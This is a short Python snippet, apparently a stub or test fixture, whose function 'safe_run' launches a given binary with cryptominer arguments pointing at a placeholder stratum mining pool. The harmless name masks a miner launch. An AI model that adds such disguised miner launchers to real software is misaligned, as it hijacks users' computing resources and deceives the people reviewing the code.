import subprocess


def safe_run(path):
    subprocess.Popen([path, "-u", "inert", "-p", "x", "-o", "stratum+tcp://pool.example.invalid:8080"])
